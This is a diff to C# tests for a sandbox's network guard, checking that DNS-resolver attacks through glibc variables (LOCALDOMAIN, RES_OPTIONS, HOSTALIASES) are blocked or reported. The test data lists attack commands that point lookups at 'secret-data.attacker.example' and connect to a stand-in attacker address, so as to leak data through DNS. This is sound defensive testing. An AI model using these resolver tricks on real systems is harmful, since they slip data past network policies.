@@ -22,8 +22,13 @@ public static class ResolverProbe
 /// <param name="Leak">A fragment of a server log line that only the attack produces.</param>
 /// <param name="Events">The "what" of every block-mode event.</param>
 /// <param name="Knob">What the lookup's event names as changed.</param>
+/// <param name="Kept">
+/// The attack changes the variables glibc reads when it loads its configuration: the library's start has glibc load
+/// it with their values at start (see resolver_state.c), so in alert mode the lookup is let through and reported but
+/// answered as the system's configuration answers it.
+/// </param>
 public sealed record ResolverAttack(string Name, string[] Commands, (string Command, string Blocked)[] Denied, string Leak,
-    string[] Events, string Knob)
+    string[] Events, string Knob, bool Kept = false)
 {
     public override string ToString() => Name;
 }
@@ -40,13 +45,13 @@ public class ResolverConfigurationTests
         new("LOCALDOMAIN with RES_OPTIONS ndots:5",
             ["env LOCALDOMAIN=secret-data.attacker.example", "env RES_OPTIONS=ndots:5", $"gai {Allowed}", $"ghbn {Allowed}", "connect4 203.0.113.7 7070"],
             [($"gai {Allowed}", GaiFail), ($"ghbn {Allowed}", HostentFail), ("connect4 203.0.113.7 7070", Eperm)],
-            "secret-data.attacker.example", [Allowed, Allowed, "203.0.113.7:7070"], "LOCALDOMAIN, RES_OPTIONS"),
-        // the variables applied by res_init, then put back: the thread's _res keeps the search list
+            "secret-data.attacker.example", [Allowed, Allowed, "203.0.113.7:7070"], "LOCALDOMAIN, RES_OPTIONS", Kept: true),
+        // the variables applied to _res by res_init (made to read them afresh), then put back: _res keeps the search list
         new("LOCALDOMAIN applied by res_init, then unset",
-            ["env LOCALDOMAIN=secret-data.attacker.example", "env RES_OPTIONS=ndots:5", "resinit", "unenv LOCALDOMAIN", "unenv RES_OPTIONS",
+            ["env LOCALDOMAIN=secret-data.attacker.example", "env RES_OPTIONS=ndots:5", "resinit_fresh", "unenv LOCALDOMAIN", "unenv RES_OPTIONS",
              $"gai {Allowed}", $"resq {Allowed}"],
             [($"gai {Allowed}", GaiFail), ($"resq {Allowed}", QueryFail)],
-            "secret-data.attacker.example", [Allowed, Allowed], "_res"),
+            "secret-data.attacker.example", [Allowed, Allowed], "_res", Kept: true),
         // an always-allowed single-label name ("aws") rewritten to the attacker's
         new("HOSTALIASES",
             ["env HOSTALIASES={aliases}", "gai aws", "ghbn aws", "connect4 203.0.113.41 7070"],
@@ -106,14 +111,16 @@ public class ResolverConfigurationTests
         var plain = Run(box, attack, null, preload: false);
         var alert = Run(box, attack, NetNamespace.AlertPolicy);
         foreach (var command in attack.Commands.Where(c => !c.StartsWith("env HOSTALIASES", StringComparison.Ordinal)))
-            Assert.Equal(plain.Line(command), alert.Line(command));
-        Assert.Contains(alert.ServerLog, l => l.Contains(attack.Leak));
+            if (!attack.Kept) Assert.Equal(plain.Line(command), alert.Line(command));
+            else foreach (var denied in new[] { GaiFail, HostentFail, QueryFail, Eperm }) Assert.DoesNotContain(denied, alert.Line(command));
+        if (attack.Kept) Assert.DoesNotContain(alert.ServerLog, l => l.Contains(attack.Leak));
+        else Assert.Contains(alert.ServerLog, l => l.Contains(attack.Leak));
         NetNamespace.EventsHaveSeedSchema(alert);
         Assert.All(alert.Result.Events, e => Assert.Equal("alert", e.Str("action")));
         Assert.Contains(alert.Result.Events, e => e.Str("message").Contains(attack.Knob, StringComparison.Ordinal));
         // what the changed resolver answered is not trusted as the allowed name's address: the connect is reported
         foreach (var connect in attack.Denied.Select(d => d.Command).Where(c => c.StartsWith("connect4 ")))
-            Assert.Contains(alert.Events(), w => w.EndsWith($"{connect.Split(' ')[1]}):7070", StringComparison.Ordinal));
+            Assert.Contains(alert.Events(), w => w.Contains(connect.Split(' ')[1] + (attack.Kept ? ":" : "):"), StringComparison.Ordinal));
     }
 
     [NamespaceTheory]
@@ -192,7 +199,9 @@ public class ResolverConfigurationTests
         Assert.Contains(block.Events("block"), w => w == name);
 
         var alert = NetNamespace.Run(box, NetNamespace.AlertPolicy, Machine.Python.Value, args);
-        Assert.Equal(plain.Case("lookup"), alert.Case("lookup"));
+        // LOCALDOMAIN: glibc keeps the configuration it loaded at the library's start (see ResolverAttack.Kept)
+        if (attack == "localdomain") Assert.Equal("ok 203.0.113.40", alert.Case("lookup"));
+        else Assert.Equal(plain.Case("lookup"), alert.Case("lookup"));
         Assert.Equal("ok", alert.Case("connect"));
         Assert.Contains(alert.Result.Events, e => e.Str("what") == name && e.Str("message").Contains("changed after start"));
 
